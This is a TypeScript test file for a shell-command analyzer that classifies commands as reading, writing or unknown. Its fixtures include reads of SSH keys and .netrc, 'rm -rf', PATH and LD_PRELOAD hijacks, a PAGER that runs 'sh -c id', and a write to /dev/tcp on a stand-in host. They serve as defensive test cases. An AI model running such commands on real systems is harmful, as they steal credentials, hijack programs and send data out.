import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { analyzeShell } from "../../src/core/shell/analyze.js";
import { accesses, analyze, effectOf, lines } from "./part-lines.js";

describe("directories", () => {
  const folders = (text: string) =>
    analyze(text).parts.map(({ program, cwd }) => `${program} ${cwd === null ? "?" : cwd || "."}`);

  it.each([
    ["git status", ["git ."]],
    ["cd a && cat b", ["cd .", "cat a"]],
    ["cd a && cd b && cat c", ["cd .", "cd a", "cat a/b"]],
    ["cd a && cat b | head", ["cd .", "cat a", "head a"]],
    ["cd a && { cat b; }", ["cd .", "cat a"]],
    ["cd a &&\n  cat b", ["cd .", "cat a"]],
    ["cd /abs && cat b", ["cd .", "cat /abs"]],
    ["cd && cat b", ["cd .", "cat /home/u"]],
    ["(cd a && cat b); cat c", ["cd .", "cat a", "cat ."]],
    ["cat a; cd b", ["cat .", "cd ."]],
    ["env -C x cat b", ["env .", "cat x"]],
    ["cd a && bash -c 'cd b && cat c'", ["cd .", "bash a", "cd a", "cat a/b"]],
    ["D=x; cd $D && cat b", ["null .", "cd .", "cat x"]],
    ["cd a; cat b", ["cd .", "cat a", "cat ."]],
    ["cd a\ncat b", ["cd .", "cat a", "cat ."]],
    ["cd a || cat b", ["cd .", "cat a", "cat ."]],
    ["cd a && cat b; cat c", ["cd .", "cat a", "cat a", "cat ."]],
    ["cd $X && cat b", ["cd .", "cat ?"]],
    ["cd - && cat b", ["cd .", "cat ?"]],
    ["source x && cat b", ["source .", "cat ?"]],
    ["if true; then cd a; fi; cat b", ["true .", "cd .", "cat a", "cat ."]],
    ["cd a; git status", ["cd .", "git a"]],
    ["cd a; cat /b", ["cd .", "cat a"]],
    ["for d in x; do cd a; cat b; done", ["null ?", "cd ?", "cat ?"]],
    ["f() { cat b; }; cd a; f", ["cat ?", "cd .", "f a"]],
    ["f() { cd a; }; cat b", ["cd ?", "cat ?"]],
  ])("%s", (text, expected) => {
    expect(folders(text)).toEqual(expected);
  });
});

describe("variables assigned in the call", () => {
  it.each([
    ["F=.env; cat $F", ["read:.env"]],
    ["F=.env && cat $F", ["read:.env"]],
    ['F=.env; cat "$F"', ["read:.env"]],
    ["export F=.env; cat ${F}", ["read:.env"]],
    ["D=/x; cat $D/y", ["read:/x/y"]],
    ['cat "$HOME/.ssh/id_rsa" ~/.netrc', ["read:/home/u/.ssh/id_rsa", "read:/home/u/.netrc"]],
  ])("%s is static", (text, expected) => {
    expect(accesses(text)).toEqual(expected);
  });

  it.each([
    ["assigned twice", "F=a; F=b; cat $F"],
    ["assigned by a loop", "F=a; for F in b; do cat $F; done"],
    ["assigned in a condition", "if true; then F=a; fi; cat $F"],
    ["assigned after a failing command", "false && F=a; cat $F"],
    ["assigned in a subshell", "(F=a); cat $F"],
    ["read from input", "F=a; read F; cat $F"],
    ["changed by eval", "F=a; eval $X; cat $F"],
    ["changed by a sourced file", "F=a; . x; cat $F"],
    ["changed by printf -v", "F=a; printf -v $N x; cat $F"],
    ["used before", "cat $F; F=a"],
    ["appended to", "F=a; F+=b; cat $F"],
    ["another word splitting", "IFS=:; F=a:b; cat $F"],
    ["a value that splits", "F='a b'; cat $F"],
    ["a value that is a pattern", "F='*'; cat $F"],
    ["another home", "HOME=/x; cat ~/y"],
    ["another user's home", "cat ~bob/y"],
  ])("%s stays unknown", (_, text) => {
    expect(accesses(text)).toContain("read:?");
    expect(accesses(text).filter((each) => /:(?:a|b|\/home\/u.*)$/.test(each))).toEqual([]);
  });

  it("resolves a program named by a variable", () => {
    expect(lines("x=rm; $x -rf y")).toEqual([" reads", "rm -r writes"]);
  });

  it("keeps what is known of a word's start", () => {
    expect(effectOf('rm "$HOME/$F"')).toBe("writes");
    expect(effectOf('rm "$F"')).toBe("unknown");
  });
});

describe("loops", () => {
  it.each([
    ["for f in a b; do cat $f; done", ["read:a", "read:b"]],
    ['for f in a b; do cat "x/$f.ts"; done', ["read:x/a.ts", "read:x/b.ts"]],
    ["for f in a; do cat $f; done; for f in b; do cat $f; done", ["read:a", "read:b"]],
    ["for d in a b; do for f in c; do cat $d; done; done", ["read:a", "read:b"]],
  ])("%s goes through them", (text, expected) => {
    expect(accesses(text)).toEqual(expected);
  });

  it("keeps a pattern as it is", () => {
    const part = analyze('for f in src/*.ts; do cat "$f"; done').parts.find(({ program }) => program === "cat");
    expect(part?.accesses).toEqual([{ path: null, mode: "read", from: "argument", raw: "src/*.ts" }]);
    expect(part?.argv[1]?.prefix).toBe("src/");
    expect(part?.flagsKnown).toBe(true);
  });

  it.each([
    ["two loops over one name, one in the other", "for f in a; do for f in b; do ls; done; cat $f; done"],
    ["a use after the loop", "for f in a; do ls; done; cat $f"],
    ["a list that is not known", "for f in $(ls); do cat $f; done"],
    ["two variables in one command", "for f in a; do for g in b; do cat $f$g; done; done"],
    ["an assignment besides", "for f in a; do f=b; cat $f; done"],
    ["a read besides", "for f in a; do read f; cat $f; done"],
    ["a list that is too long", `for f in ${"a ".repeat(30)}; do cat $f; done`],
  ])("%s stays unknown", (_, text) => {
    expect(accesses(text)).toContain("read:?");
  });
});

describe("assignments", () => {
  it.each([
    "X=1",
    "X=1 ls",
    "LANG=C ls",
    "NODE_ENV=test ls",
    "PAGER=cat git log",
    "IFS= read -r x",
    "GIT_PAGER= git log",
  ])("%s only reads", (text) => {
    expect(effectOf(text)).toBe("reads");
  });

  it.each([
    "PATH=/tmp/evil:$PATH git status",
    "LD_PRELOAD=/tmp/x.so ls",
    "DYLD_INSERT_LIBRARIES=/tmp/x ls",
    "GIT_SSH_COMMAND=x git status",
    "GIT_EXTERNAL_DIFF=x git diff",
    "GIT_CONFIG_COUNT=1 git status",
    "PAGER='sh -c id' git log",
    "BASH_ENV=/tmp/x ls",
    "RIPGREP_CONFIG_PATH=/tmp/x rg y",
    "TAR_OPTIONS=--to-command=x tar tf y",
    "export PATH=/tmp",
    "export LD_PRELOAD=x; ls",
    "PROMPT_COMMAND=x",
    "read PATH",
    "read -r LD_PRELOAD < f",
    "printf -v PATH /tmp",
    "HOME=/tmp git status",
    "declare -n ref=PATH; ref=/tmp; git status",
    "IFS=: ls",
  ])("%s is not known to be harmless", (text) => {
    expect(effectOf(text)).toBe("unknown");
  });
});

describe("redirects", () => {
  it.each([
    ["ls > /dev/null 2>&1", "reads"],
    ["ls < f", "reads"],
    ["ls 2>/dev/null >&2", "reads"],
    ["ls > f", "writes"],
    ["ls >> ~/.bashrc", "writes"],
    ["> f", "writes"],
    ["{ ls; } > f", "writes"],
    ["bash -c 'ls' > f", "writes"],
    ["echo x > /dev/tcp/e.example/80", "unknown"],
  ])("%s: %s", (text, effect) => {
    expect(effectOf(text)).toBe(effect);
  });
});

describe("bounds", () => {
  it("ends in unknown beyond two hundred parts, and keeps those found", () => {
    const { status, parts } = analyze(`${"ls;".repeat(250)} rm x`);
    expect(status).toBe("unknown");
    expect(parts.length).toBeGreaterThan(190);
  });

  it("ends in unknown beyond five wrappers", () => {
    const { status, reasons } = analyze(`${"env ".repeat(8)} rm x`);
    expect(status).toBe("unknown");
    expect(reasons.map(({ code }) => code)).toContain("too-deep");
  });

  it("ends in unknown when the script of a shell is not static", () => {
    expect(analyze('bash -c "$X"').status).toBe("unknown");
    expect(analyze('eval "$(ssh-agent)"').status).toBe("unknown");
  });

  it("never throws, and every part has a place in the text", () => {
    const word = fc.constantFrom(
      "rm",
      "-rf",
      "git",
      "-C",
      "log",
      "sudo",
      "env",
      "A=1",
      "$X",
      '"$Y"',
      "'a b'",
      "*.ts",
      "--",
      "-",
      "{}",
      ";",
      "|",
      "&&",
      "\n",
      "$(ls)",
      "find",
      "-exec",
      "xargs",
      "-I{}",
      "sed",
      "s/a/b/e",
      "awk",
      "tar",
      "xf",
      "bash",
      "-c",
      "kubectl",
      "exec",
      "=",
      "--x=y",
      "<<E",
      ">f",
      "cd",
      "eval",
      "jq",
      "--arg",
      "printf",
      "-v",
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 14 }), (words) => {
        const text = words.join(" ");
        for (const part of analyze(text).parts) {
          expect(part.pos).toBeGreaterThanOrEqual(0);
          expect(part.end).toBeLessThanOrEqual(text.length);
        }
      }),
      { numRuns: 400 },
    );
    fc.assert(
      fc.property(
        fc.string({ maxLength: 60 }),
        (text) => analyzeShell(text, { dialect: "powershell", wrappers: [], home: "" }).parts.length >= 0,
      ),
    );
  });
});
